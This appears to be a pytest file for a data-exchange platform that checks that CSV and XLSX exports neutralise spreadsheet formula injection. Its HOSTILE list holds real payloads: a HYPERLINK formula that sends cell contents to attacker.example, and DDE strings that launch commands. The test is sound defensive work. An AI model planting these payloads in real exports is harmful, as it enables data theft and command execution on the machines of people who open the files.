"""R21: every CSV and XLSX the platform writes keeps hostile text as text, not as a formula."""

import csv
import io

import pyarrow as pa
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from exchange.identity.roles import Role
from exchange.spreadsheets import FORMULA_START, PLAIN_NUMBER
from exchange.store import UnifiedStore
from tests.catalog_fixtures import CatalogWorld, enterprise_register, publish_entry
from tests.scenarios.people import bearer, sign_in

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def assert_no_live_formula_in_csv(content: bytes) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    live = [c for c in cells if FORMULA_START.match(c) and not PLAIN_NUMBER.match(c)]
    assert live == [], live
    return cells


def assert_no_formula_in_xlsx(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    return [str(c.value) for c in cells if c.value is not None]


def test_r21_catalog_exports_keep_formulas_as_text(world: CatalogWorld, client: TestClient) -> None:
    code = publish_entry(
        world, enterprise_register(abstract=HOSTILE[0] + "。企业登记的基本信息摘要")
    )
    headers = bearer(world, "registrar")
    as_csv = client.get("/api/v1/catalog/export", params={"format": "csv"}, headers=headers)
    assert as_csv.status_code == 200, as_csv.text
    cells = assert_no_live_formula_in_csv(as_csv.content)
    assert "'" + HOSTILE[0] + "。企业登记的基本信息摘要" in cells  # the text is all there
    as_xlsx = client.get("/api/v1/catalog/export", params={"format": "xlsx"}, headers=headers)
    assert HOSTILE[0] + "。企业登记的基本信息摘要" in assert_no_formula_in_xlsx(as_xlsx.content)
    assert code


def test_r21_data_csv_from_the_api_and_the_portal_keeps_formulas_as_text(
    world: CatalogWorld, client: TestClient
) -> None:
    code = publish_entry(world, enterprise_register())
    rows = len(HOSTILE) + 2
    table = pa.table(
        {
            "uscc": [f"91440300MA5{i:07d}" for i in range(rows)],
            "enterprise_name": [*HOSTILE, "-5", "普通公司"],
            "legal_representative": ["张三"] * rows,
            "registered_capital": pa.array([1.0] * rows, pa.float64()),
        }
    )
    UnifiedStore(world.platform.settings).write(
        code, table, overwrite=True, run_key="1", properties={}
    )
    api = client.get(
        f"/api/v1/data/{code}/rows",
        params={"purpose": "核验企业登记信息", "format": "csv"},
        headers=bearer(world, "consumer"),
    )
    assert api.status_code == 200, api.text
    cells = assert_no_live_formula_in_csv(api.content)
    assert "-5" in cells  # a plain number is left alone
    assert "'=cmd|' /C calc'!A0" in cells

    sign_in(client, world, world.consumer_department, Role.CONSUMER)
    page = client.get(f"/data/{code}/download.csv", params={"purpose": "核验企业登记信息"})
    assert page.status_code == 200, page.text[:300]
    assert_no_live_formula_in_csv(page.content)
    # The Excel download: the same cells, none a formula, codes kept as text with the item names.
    workbook = client.get(f"/data/{code}/download.xlsx", params={"purpose": "核验企业登记信息"})
    assert workbook.status_code == 200
    written = assert_no_formula_in_xlsx(workbook.content)
    assert "统一社会信用代码" in written
    assert "91440300MA50000000" in written  # text, not a number
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    assert sheet["A2"].data_type == "s"
    assert client.get(f"/data/{code}/download.exe", params={"purpose": "核验"}).status_code == 404


def test_r21_scorecard_exports_keep_formulas_as_text() -> None:
    from supervision.scorecard_exports import to_csv, to_xlsx

    rows: list[list[object]] = [["2026-11", name, *([0] * 3)] for name in HOSTILE]
    assert_no_live_formula_in_csv(to_csv(rows, "zh"))
    written = set(assert_no_formula_in_xlsx(to_xlsx(rows, "zh")))
    assert {text.replace("\r", "\n") for text in HOSTILE} <= written  # XML keeps CR as LF
